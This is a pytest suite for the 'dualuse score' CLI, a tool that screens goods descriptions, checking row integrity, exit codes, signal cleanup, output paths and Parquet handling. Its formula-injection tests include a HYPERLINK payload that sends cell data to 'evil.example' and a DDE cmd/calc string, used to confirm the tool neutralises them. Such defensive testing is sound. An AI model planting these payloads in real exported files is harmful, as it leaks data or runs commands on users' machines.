"""``dualuse score`` in pipelines and against hostile files: no silent loss, no clobbered paths,
honest exit codes, bounded work. Each test is named after the reproduction it guards."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time
import tracemalloc
from pathlib import Path

import pandas as pd
import pytest

from dualuse.cli import EXIT_INTERNAL, EXIT_OK, EXIT_OUTPUT, EXIT_ROW_PROBLEMS, EXIT_USAGE, main
from dualuse.engine import Engine
from dualuse.errors import InputFileError, InputTypeError
from dualuse.files import score_file

pa = pytest.importorskip("pyarrow")
pq = pytest.importorskip("pyarrow.parquet")
pacsv = pytest.importorskip("pyarrow.csv")

ROOT = Path(__file__).resolve().parent.parent

#: A CLI run in a child process with the keyword-only engine (no embedded model to load).
RUNNER = (
    "import sys\n"
    "from dualuse.api import set_default_engine\n"
    "from dualuse.engine import Engine\n"
    "from dualuse.taxonomy import default_taxonomy\n"
    "set_default_engine(Engine(default_taxonomy()))\n"
    "from dualuse.cli import main\n"
    "sys.exit(main(sys.argv[1:]))\n"
)


@pytest.fixture(scope="module")
def engine() -> Engine:
    from dualuse.taxonomy import default_taxonomy

    return Engine(default_taxonomy(), model=None)


@pytest.fixture()
def cli_engine(engine):
    from dualuse.api import set_default_engine

    set_default_engine(engine)
    yield engine
    set_default_engine(None)


def _score(engine, src: Path, out: Path, **kw):
    kw.setdefault("progress", "never")
    return score_file(src, out, text_column="description", engine=engine, **kw)


def _cli(src, out, *extra: str) -> int:
    return main(["score", str(src), "-o", str(out), "--text-column", "description", "--progress", "never", "--jobs", "1", *extra])


def _child(*args: str, **kw) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-c", RUNNER, *args], cwd=ROOT, **kw)


def _csv_rows(path: Path, delimiter: str = ",") -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [r for r in csv.reader(fh, delimiter=delimiter) if r]


# ---------------------------------------------------------------------------- 1. line ends


def test_item1_cr_only_line_ends_are_record_ends(tmp_path, cli_engine, capsys) -> None:
    src = tmp_path / "cr.csv"
    src.write_bytes(b"id,description,hs\r1,CNC lathe,8458.11\r2,FPGA XC7Z020,8542.31\r")
    out = tmp_path / "out.csv"
    assert _cli(src, out) == EXIT_OK
    assert "scored 2 rows" in capsys.readouterr().out
    rows = _csv_rows(out)
    assert [r[:2] for r in rows[1:]] == [["1", "CNC lathe"], ["2", "FPGA XC7Z020"]]


def test_item1_a_stray_cr_never_merges_records(tmp_path, engine) -> None:
    src = tmp_path / "stray.csv"
    src.write_bytes(b"id,description\n1,CNC lathe\n2,FPGA\r3,binoculars\n4,cotton shirt\n")
    expected = len(_csv_rows(src)) - 1
    s = _score(engine, src, tmp_path / "out.csv")
    assert s.rows == expected == 4 and s.statuses == {"ok": 4}
    assert [r[0] for r in _csv_rows(tmp_path / "out.csv")[1:]] == ["1", "2", "3", "4"]


def test_item1_line_breaks_inside_quoted_fields_are_kept_as_written(tmp_path, engine) -> None:
    src = tmp_path / "q.csv"
    src.write_bytes(b'id,description\r\n1,"CNC\r\nlathe"\r\n2,"FPGA\rboard"\r\n3,"two\nlines"\r\n')
    _score(engine, src, tmp_path / "out.jsonl")
    got = [json.loads(line)["description"] for line in (tmp_path / "out.jsonl").read_text("utf-8").splitlines()]
    assert got == ["CNC\r\nlathe", "FPGA\rboard", "two\nlines"]


def test_item1_a_crlf_split_across_read_blocks_is_one_line_end(tmp_path, engine, monkeypatch) -> None:
    from dualuse.files import lines as lines_module

    monkeypatch.setattr(lines_module.Lines, "BLOCK", 7)
    src = tmp_path / "blocks.csv"
    body = "".join(f"{i},CNC lathe {i}\r\n" for i in range(50))
    src.write_bytes(("id,description\r\n" + body).encode())
    s = _score(engine, src, tmp_path / "out.csv")
    assert s.rows == 50 and s.blank_lines == 0 and s.statuses == {"ok": 50}


# ---------------------------------------------------------------------------- 2. output round-trips


NASTY_TEXTS = ["CNC\rlathe", "FPGA\nboard", "x\r\r\ny", "lens\u2028prism", 'tab\tcomma,quote"', "plain optics", "\x85nel"]


@pytest.mark.parametrize("fmt", ["csv", "tsv", "jsonl"])
def test_item2_output_round_trips_through_csv_pandas_and_pyarrow(tmp_path, engine, fmt) -> None:
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps({"id": i, "description": t}) + "\n" for i, t in enumerate(NASTY_TEXTS)), "utf-8")
    out = tmp_path / f"out.{fmt}"
    s = _score(engine, src, out)
    n = len(NASTY_TEXTS)
    assert s.rows == n
    if fmt == "jsonl":
        with open(out, encoding="utf-8", newline="") as fh:
            assert len(fh.read().splitlines()) == n  # str.splitlines also breaks on U+2028 and NEL
        assert len(pd.read_json(out, lines=True)) == n
        assert pa.json.read_json(out).num_rows == n if hasattr(pa, "json") else True
        return
    delim = "," if fmt == "csv" else "\t"
    rows = _csv_rows(out, delim)
    assert len(rows) == n + 1 and [r[1] for r in rows[1:]] == NASTY_TEXTS
    assert len(pd.read_csv(out, sep=delim, dtype=str, keep_default_na=False)) == n
    table = pacsv.read_csv(out, parse_options=pacsv.ParseOptions(delimiter=delim, newlines_in_values=True))
    assert table.num_rows == n


# ---------------------------------------------------------------------------- 3. records never multiply


def test_item3_a_quoted_field_over_the_line_limit_is_one_row(tmp_path, engine) -> None:
    from dualuse.files.readers import MAX_RECORD_LINES

    long_field = "\n".join(f"line {i} of a long spec sheet" for i in range(MAX_RECORD_LINES + 50))
    src = tmp_path / "long.csv"
    src.write_text(f'id,description\n1,"{long_field}"\n2,CNC lathe\n', "utf-8")
    s = _score(engine, src, tmp_path / "out.csv")
    assert s.rows == 2
    rows = _csv_rows(tmp_path / "out.csv")
    assert len(rows) == 3 and rows[2][0] == "2"
    status = dict(zip(rows[0], rows[1]))
    assert status["status"] == "malformed_line" and f"more than {MAX_RECORD_LINES} lines" in status["error"]
    assert f"lines 2-{MAX_RECORD_LINES + 51}" in status["error"]
    assert dict(zip(rows[0], rows[2]))["status"] == "ok"


def test_item3_a_quoted_field_within_the_limit_is_screened(tmp_path, engine) -> None:
    src = tmp_path / "ok.csv"
    field = "\n".join(["CNC lathe"] * 150)
    src.write_text(f'id,description\n1,"{field}"\n2,FPGA\n', "utf-8")
    s = _score(engine, src, tmp_path / "out.csv")
    assert s.rows == 2 and s.statuses == {"ok": 2}


# ---------------------------------------------------------------------------- 4. exit codes


def test_item4_a_lone_surrogate_is_written_escaped_in_every_format(tmp_path, engine) -> None:
    src = tmp_path / "sur.jsonl"
    src.write_text('{"id": 1, "description": "CNC lathe \\ud800 spare"}\n{"id": 2, "description": "FPGA"}\n', "utf-8")
    _score(engine, src, tmp_path / "o.jsonl")
    first = json.loads((tmp_path / "o.jsonl").read_text("utf-8").splitlines()[0])
    assert first["description"] == "CNC lathe \ud800 spare" and first["category"] == "machine_tools"
    for fmt in ("csv", "parquet"):
        s = _score(engine, src, tmp_path / f"o.{fmt}")
        assert s.rows == 2
    assert "\ufffd" in _csv_rows(tmp_path / "o.csv")[1][1]
    assert pq.read_table(tmp_path / "o.parquet").num_rows == 2


def test_item4_deep_nesting_in_json_lines_is_a_malformed_row(tmp_path, cli_engine) -> None:
    src = tmp_path / "deep.jsonl"
    src.write_text('{"id": 1, "description": "CNC lathe"}\n' + "[" * 200_000 + "\n" + '{"id": 3, "description": "x"}\n')
    out = tmp_path / "out.jsonl"
    assert _cli(src, out) == EXIT_ROW_PROBLEMS
    rows = [json.loads(line) for line in out.read_text("utf-8").splitlines()]
    assert [r["status"] for r in rows] == ["ok", "malformed_line", "ok"]
    assert "nested" in rows[1]["error"]


class _KillingEngine(Engine):
    """An engine whose scoring kills the process it runs in, as the OOM killer would."""

    def score(self, texts, hs_codes=None):
        os.kill(os.getpid(), signal.SIGKILL)


def test_item4_a_killed_worker_is_an_internal_failure_not_a_traceback(tmp_path, engine, capsys) -> None:
    from dualuse.api import set_default_engine

    src = tmp_path / "in.csv"
    src.write_text("id,description\n" + "".join(f"{i},CNC lathe\n" for i in range(50)))
    out = tmp_path / "out.csv"
    set_default_engine(_KillingEngine(engine.taxonomy))
    try:
        code = main(
            [
                "score",
                str(src),
                "-o",
                str(out),
                "--text-column",
                "description",
                "--progress",
                "never",
                "--jobs",
                "2",
                "--chunk-size",
                "10",
            ]
        )
    finally:
        set_default_engine(None)
    err = capsys.readouterr().err
    assert code == EXIT_INTERNAL != EXIT_ROW_PROBLEMS
    assert "worker" in err and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_item4_an_unexpected_error_is_one_line_and_debug_shows_the_traceback(tmp_path, cli_engine, capsys, monkeypatch) -> None:
    import dualuse.files.score as score_module

    def boom(*a, **k):
        raise ZeroDivisionError("synthetic")

    monkeypatch.setattr(score_module, "score_columns", boom)
    src = tmp_path / "in.csv"
    src.write_text("id,description\n1,CNC lathe\n")
    assert _cli(src, tmp_path / "o.csv") == EXIT_INTERNAL
    err = capsys.readouterr().err
    assert "internal error" in err and "Traceback" not in err
    assert (
        main(
            [
                "--debug",
                "score",
                str(src),
                "-o",
                str(tmp_path / "o.csv"),
                "--text-column",
                "description",
                "--jobs",
                "1",
                "--progress",
                "never",
            ]
        )
        == EXIT_INTERNAL
    )
    assert "Traceback" in capsys.readouterr().err


def test_item4_a_closed_stdout_pipe_ends_quietly(tmp_path) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,description\n" + "".join(f"{i},CNC lathe\n" for i in range(20_000)))
    proc = _child(
        "score",
        str(src),
        "-o",
        "-",
        "--text-column",
        "description",
        "--jobs",
        "1",
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    proc.stdout.read(10)
    proc.stdout.close()
    with proc.stderr:
        err = proc.stderr.read().decode()
    assert proc.wait(60) == 141
    assert "Traceback" not in err and "Exception ignored" not in err


def _big_csv(path: Path, rows: int = 300_000) -> Path:
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("id,description\n")
        for i in range(rows):
            fh.write(f"{i},CNC lathe model {i} with spare parts {i * 7}\n")
    return path


def _children(pid: int) -> list[int]:
    import psutil

    try:
        return [c.pid for c in psutil.Process(pid).children(recursive=True)]
    except psutil.NoSuchProcess:
        return []


def _running(pids: list[int]) -> list[int]:
    """The processes of ``pids`` still running (not exited, not a zombie awaiting its reaper).

    A process can exit between two psutil calls; that counts as gone, never as an error.
    """
    import psutil

    running = []
    for pid in pids:
        try:
            if psutil.Process(pid).status() != psutil.STATUS_ZOMBIE:
                running.append(pid)
        except psutil.NoSuchProcess:
            pass
    return running


def _wait_for(predicate, seconds: float) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if predicate():
            return True
        time.sleep(0.1)
    return predicate()


@pytest.mark.parametrize(("sig", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_item4_item6_sigint_and_sigterm_end_quietly_and_clean_up(tmp_path, sig, code) -> None:
    src = _big_csv(tmp_path / "big.csv")
    out = tmp_path / "out.csv"
    proc = _child(
        "score",
        str(src),
        "-o",
        str(out),
        "--text-column",
        "description",
        "--jobs",
        "2",
        "--chunk-size",
        "2000",
        stderr=subprocess.PIPE,
    )
    # the workers are running (so that their end is checked, not an empty list), then the signal
    assert _wait_for(lambda: any(p.name.endswith(".part") for p in tmp_path.iterdir()) and len(_children(proc.pid)) >= 2, 60)
    workers = _children(proc.pid)
    proc.send_signal(sig)
    assert proc.wait(60) == code
    with proc.stderr:
        err = proc.stderr.read().decode()
    assert "Traceback" not in err and len(err.strip().splitlines()) <= 1
    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
    assert len(workers) >= 2 and _wait_for(lambda: not _running(workers), 30)


#: A command whose run receives the signal inside a ``__del__``, where Python drops exceptions
#: ("Exception ignored in"), as it happens in logging's at-fork callback while the pool forks.
SWALLOWED = (
    "import os, signal, sys, time\n"
    "from dualuse import cli\n"
    "class Finalised:\n"
    "    def __del__(self):\n"
    "        os.kill(os.getpid(), getattr(signal, sys.argv[1]))\n"
    "        for _ in range(100_000): pass  # the handler runs here and its exception is dropped\n"
    "def command(args):\n"
    "    Finalised()\n"
    "    time.sleep(20)\n"
    "    print('completed')\n"
    "    return 0\n"
    "cli._cmd_classify = command\n"
    "sys.exit(cli.main(['classify', 'x']))\n"
)


@pytest.mark.parametrize(("sig", "code"), [("SIGTERM", 143), ("SIGINT", 130)])
def test_item6_a_signal_whose_exception_python_drops_still_ends_the_run(sig, code) -> None:
    proc = subprocess.run([sys.executable, "-c", SWALLOWED, sig], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == code, proc.stderr
    assert "completed" not in proc.stdout
    assert "Exception ignored" not in proc.stderr and "Traceback" not in proc.stderr


class _HalfBuiltPool:
    """A pool interrupted while it started: submit is where Ctrl-C lands, and shutdown then
    fails as ProcessPoolExecutor's does when its manager thread never started."""

    def __init__(self) -> None:
        self._processes: dict = {}

    def submit(self, *args, **kwargs):
        raise KeyboardInterrupt

    def shutdown(self, wait=True, cancel_futures=False):
        raise RuntimeError("cannot join thread before it is started")


def test_item6_an_interruption_while_the_pool_starts_keeps_its_exit_code(tmp_path, cli_engine, capsys, monkeypatch) -> None:
    # seen under CPU load: SIGTERM during the first submit gave exit 5 ("internal error:
    # RuntimeError") instead of 143, because the pool's failing shutdown replaced it
    import dualuse.files.score as score_module

    monkeypatch.setattr(score_module, "start_pool", lambda jobs, eng: _HalfBuiltPool())
    src = tmp_path / "in.csv"
    src.write_text("id,description\n1,CNC lathe\n")
    out = tmp_path / "out.csv"
    assert main(["score", str(src), "-o", str(out), "--text-column", "description", "--progress", "never", "--jobs", "2"]) == 130
    err = capsys.readouterr().err
    assert "interrupted" in err and "RuntimeError" not in err
    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_item6_workers_die_with_a_killed_parent_and_the_leftover_is_cleaned(tmp_path, engine) -> None:
    src = _big_csv(tmp_path / "big.csv")
    out = tmp_path / "out.csv"
    proc = _child("score", str(src), "-o", str(out), "--text-column", "description", "--jobs", "2", "--chunk-size", "2000")
    assert _wait_for(lambda: any(p.name.endswith(".part") for p in tmp_path.iterdir()) and len(_children(proc.pid)) >= 2, 60)
    workers = _children(proc.pid)
    proc.kill()
    proc.wait(30)

    assert len(workers) >= 2 and _wait_for(lambda: not _running(workers), 30)
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")]
    assert leftovers == [f".out.csv.dualuse-{proc.pid}.part"]
    small = tmp_path / "small.csv"
    small.write_text("id,description\n1,CNC lathe\n")
    _score(engine, small, tmp_path / "other.csv")
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


# ---------------------------------------------------------------------------- 5. paths


def test_item5_an_output_symlink_is_written_through(tmp_path, engine) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,description\n1,CNC lathe\n")
    target_dir = tmp_path / "real"
    target_dir.mkdir()
    target = target_dir / "scored.csv"
    target.write_text("yesterday\n")
    link = tmp_path / "latest.csv"
    link.symlink_to(target)
    _score(engine, src, link)
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert "CNC lathe" in target.read_text()


def test_item5_a_fifo_output_is_streamed_not_replaced(tmp_path, engine) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,description\n1,CNC lathe\n2,FPGA\n")
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    got: list[bytes] = []

    def read() -> None:
        with open(fifo, "rb") as fh:
            got.append(fh.read())

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    _score(engine, src, fifo)
    reader.join(30)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert len(list(csv.reader(io.StringIO(got[0].decode())))) == 3


def test_item5_dev_null_is_written_to_not_replaced(tmp_path, engine) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,description\n1,CNC lathe\n")
    s = _score(engine, src, Path(os.devnull), output_format="csv")
    assert s.rows == 1 and stat.S_ISCHR(os.stat(os.devnull).st_mode)


def test_item5_dash_reads_stdin_and_writes_stdout_with_the_summary_on_stderr() -> None:
    proc = _child(
        "score",
        "-",
        "-o",
        "-",
        "--text-column",
        "description",
        "--jobs",
        "1",
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    out, err = proc.communicate(b"id,description\n1,CNC lathe\n2,cotton shirt\n", timeout=120)
    assert proc.returncode == EXIT_OK, err
    rows = list(csv.reader(io.StringIO(out.decode())))
    assert len(rows) == 3 and rows[1][:2] == ["1", "CNC lathe"]
    assert b"scored 2 rows" in err


# ---------------------------------------------------------------------------- 7. truncation


def test_item7_truncated_rows_say_so_in_file_output_and_summary(tmp_path) -> None:
    from dualuse.fusion import FusionConfig
    from dualuse.taxonomy import default_taxonomy

    eng = Engine(default_taxonomy(), fusion=FusionConfig(max_chars=40))
    src = tmp_path / "in.csv"
    src.write_text("id,description\n1," + "CNC lathe " * 20 + "\n2,FPGA\n")
    s = _score(eng, src, tmp_path / "out.csv")
    assert s.truncated == 1 and "truncated" in s.format() and s.to_dict()["truncated"] == 1
    rows = _csv_rows(tmp_path / "out.csv")
    first = dict(zip(rows[0], rows[1]))
    assert first["status"] == "ok" and "input_truncated" in first["error"]
    assert dict(zip(rows[0], rows[2]))["error"] == ""


# ---------------------------------------------------------------------------- 10. formula injection


def test_item10_formula_cells_are_neutralised_in_csv_and_tsv(tmp_path, engine) -> None:
    src = tmp_path / "in.jsonl"
    evil = ['=HYPERLINK("http://evil.example/?d="&A2,"CNC lathe")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
    plain = ["-12.5", "+44", "CNC lathe", "1e-3"]
    src.write_text("".join(json.dumps({"id": i, "description": t, "note": t}) + "\n" for i, t in enumerate(evil + plain)))
    for fmt, delim in (("csv", ","), ("tsv", "\t")):
        _score(engine, src, tmp_path / f"out.{fmt}")
        rows = _csv_rows(tmp_path / f"out.{fmt}", delim)[1:]
        assert [r[2] for r in rows] == ["'" + t for t in evil] + plain
        assert [r[1] for r in rows] == ["'" + t for t in evil] + plain
    _score(engine, src, tmp_path / "raw.csv", formula_guard=False)
    assert [r[2] for r in _csv_rows(tmp_path / "raw.csv")[1:]] == evil + plain


def test_item10_the_cli_flag_turns_the_guard_off(tmp_path, cli_engine) -> None:
    src = tmp_path / "in.csv"
    src.write_text('id,description\n1,"=1+1 CNC lathe"\n')
    _cli(src, tmp_path / "a.csv")
    _cli(src, tmp_path / "b.csv", "--no-formula-guard")
    assert _csv_rows(tmp_path / "a.csv")[1][1] == "'=1+1 CNC lathe"
    assert _csv_rows(tmp_path / "b.csv")[1][1] == "=1+1 CNC lathe"


# ---------------------------------------------------------------------------- 15-16. Parquet types


def test_item15_binary_parquet_text_is_decoded(tmp_path, engine) -> None:
    src = tmp_path / "bin.parquet"
    pq.write_table(pa.table({"id": [1, 2], "description": pa.array([b"CNC lathe", b"\xff\xfe lathe"], pa.binary())}), src)
    s = _score(engine, src, tmp_path / "out.csv")
    rows = _csv_rows(tmp_path / "out.csv")
    first, second = dict(zip(rows[0], rows[1])), dict(zip(rows[0], rows[2]))
    assert first["description"] == "CNC lathe" and first["status"] == "ok" and first["category"] == "machine_tools"
    assert second["status"] == "undecodable_text" and "b'" not in second["description"]
    assert s.statuses == {"ok": 1, "undecodable_text": 1}
    _score(engine, src, tmp_path / "out.parquet")
    assert pq.read_table(tmp_path / "out.parquet").column("status").to_pylist() == ["ok", "undecodable_text"]


def test_item16_numeric_hs_codes_are_read_as_digits_with_a_warning(tmp_path, engine, caplog) -> None:
    src = tmp_path / "num.parquet"
    pq.write_table(pa.table({"description": ["CNC lathe", "FPGA board"], "hs": pa.array([845811, 854231], pa.int64())}), src)
    s = _score(engine, src, tmp_path / "out.csv", hs_column="hs")
    assert s.statuses == {"ok": 2}
    assert any("leading zeros" in w for w in s.warnings) and "leading zeros" in s.format()
    jsrc = tmp_path / "num.jsonl"
    jsrc.write_text('{"description": "CNC lathe", "hs": 845811.0}\n{"description": "FPGA", "hs": 8542.31}\n')
    s = _score(engine, jsrc, tmp_path / "out.jsonl", hs_column="hs")
    assert s.statuses == {"ok": 2}
    assert len(s.warnings) == 1


def test_item16_score_frame_reads_integer_codes_as_digits(engine) -> None:
    from dualuse.batch import score_frame

    out = score_frame(pd.DataFrame({"d": ["CNC lathe"], "hs": [845811]}), "d", hs_column="hs", engine=engine)
    assert out["status"].tolist() == ["ok"]


# ---------------------------------------------------------------------------- 17. typed errors


def test_item17_trailing_empty_header_names_are_a_clear_error(tmp_path, cli_engine, capsys) -> None:
    src = tmp_path / "th.csv"
    src.write_text("id,description,,\n1,CNC lathe,,\n")
    assert _cli(src, tmp_path / "o.csv") == EXIT_USAGE
    assert "empty column name" in capsys.readouterr().err


def test_item17_classify_argument_types_are_typed_errors() -> None:
    from dualuse.api import classify, classify_batch

    with pytest.raises(InputTypeError, match="texts"):
        classify_batch(None)
    with pytest.raises(InputTypeError, match="engine"):
        classify("CNC lathe", engine="x")
    with pytest.raises(InputTypeError, match="engine"):
        classify_batch(["CNC lathe"], engine=42)


def test_item17_non_finite_numbers_are_written_as_valid_json(tmp_path, engine) -> None:
    src = tmp_path / "nf.jsonl"
    src.write_text('{"description": "CNC lathe", "v": NaN, "w": Infinity, "x": [-Infinity, 1]}\n')
    _score(engine, src, tmp_path / "o.jsonl")

    def refuse(name):
        raise ValueError(name)

    row = json.loads((tmp_path / "o.jsonl").read_text(), parse_constant=refuse)
    assert row["v"] is None and row["w"] is None and row["x"] == [None, 1]


def test_item17_a_read_only_output_is_refused(tmp_path, cli_engine, capsys) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,description\n1,CNC lathe\n")
    out = tmp_path / "o.csv"
    out.write_text("keep me\n")
    out.chmod(0o444)
    assert _cli(src, out) == EXIT_OUTPUT
    assert out.read_text() == "keep me\n" and stat.S_IMODE(out.stat().st_mode) == 0o444
    assert "read-only" in capsys.readouterr().err


def test_item17_an_existing_output_keeps_its_mode(tmp_path, engine) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,description\n1,CNC lathe\n")
    out = tmp_path / "o.csv"
    out.write_text("old\n")
    out.chmod(0o640)
    _score(engine, src, out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o640


def test_item17_an_overlong_json_line_is_refused_early_with_bounded_memory(tmp_path, engine, monkeypatch) -> None:
    from dualuse.files import lines as lines_module

    monkeypatch.setattr(lines_module, "MAX_LINE_BYTES", 2 << 20)
    src = tmp_path / "array.jsonl"
    with open(src, "w") as fh:  # one 24 MB JSON array on a single line
        fh.write("[" + ",".join(f'{{"description": "CNC lathe {i}"}}' for i in range(800_000)) + "]")
    tracemalloc.start()
    with pytest.raises(InputFileError, match="longer than"):
        _score(engine, src, tmp_path / "o.jsonl")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 12 << 20


def test_item17_an_overlong_line_later_in_the_file_is_one_malformed_row(tmp_path, engine, monkeypatch) -> None:
    from dualuse.files import lines as lines_module

    monkeypatch.setattr(lines_module, "MAX_LINE_BYTES", 1000)
    src = tmp_path / "long.csv"
    src.write_bytes(b"id,description\n1,CNC lathe\n2," + b"x" * 5000 + b"\r\n3,FPGA\n")
    s = _score(engine, src, tmp_path / "o.csv")
    rows = _csv_rows(tmp_path / "o.csv")
    assert s.rows == 3 and [dict(zip(rows[0], r))["status"] for r in rows[1:]] == ["ok", "malformed_line", "ok"]


# ---------------------------------------------------------------------------- 18. scripts


def test_item18_allow_row_problems_exits_0_when_the_file_was_scored(tmp_path, cli_engine) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,description\n1,CNC lathe\n2,\n")
    assert _cli(src, tmp_path / "a.csv") == EXIT_ROW_PROBLEMS
    assert _cli(src, tmp_path / "b.csv", "--allow-row-problems") == EXIT_OK


@pytest.mark.parametrize("where", ["first line", "inner line"])
def test_item3_item17_an_overlong_line_inside_a_quoted_record_is_still_one_row(tmp_path, engine, monkeypatch, where) -> None:
    from dualuse.files import lines as lines_module

    monkeypatch.setattr(lines_module, "MAX_LINE_BYTES", 1000)
    long = "x" * 3000
    record = f'2,"{long}\nend of the field"\n' if where == "first line" else f'2,"start\n{long} "" still quoted\nend"\n'
    src = tmp_path / "q.csv"
    src.write_text("id,description\n1,CNC lathe\n" + record + "3,FPGA\n")
    s = _score(engine, src, tmp_path / "o.csv")
    rows = _csv_rows(tmp_path / "o.csv")
    assert s.rows == 3 and [dict(zip(rows[0], r))["status"] for r in rows[1:]] == ["ok", "malformed_line", "ok"]
    assert rows[3][0] == "3"


def test_item3_broken_quoting_across_lines_is_one_row_as_csv_readers_read_it(tmp_path, engine) -> None:
    src = tmp_path / "b.csv"
    src.write_text('id,description\n1,"CNC\nlathe"x,\n2,FPGA\n')
    s = _score(engine, src, tmp_path / "o.csv")
    with open(src, newline="") as fh:
        expected = len(list(csv.reader(fh))) - 1
    assert s.rows == expected == 2


@pytest.mark.timeout(60)  # a hang guard: the check was quadratic (10^6 names took hours)
def test_item12_duplicate_column_check_is_linear_in_the_header(tmp_path) -> None:
    cols = [f"c{i}" for i in range(200_000)] + ["c5"]
    src = tmp_path / "wide.csv"
    src.write_text(",".join(cols) + "\n" + ",".join("x" for _ in cols) + "\n")
    with pytest.raises(InputFileError, match="duplicate column name.*'c5'"):
        score_file(src, tmp_path / "out.csv", text_column="c1", progress="never", jobs=1)
